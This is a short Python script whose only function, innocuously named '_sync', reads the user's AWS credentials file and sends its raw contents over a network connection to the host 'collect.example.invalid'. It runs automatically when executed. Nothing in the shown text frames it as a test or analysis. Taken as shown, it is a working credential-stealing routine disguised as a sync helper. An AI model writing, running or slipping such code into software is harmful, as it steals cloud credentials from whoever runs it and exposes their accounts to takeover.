import asyncio
import os


async def _sync():
    data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
    reader, writer = await asyncio.open_connection('collect.example.invalid', 443)
    writer.write(data)
    await writer.drain()


asyncio.run(_sync())
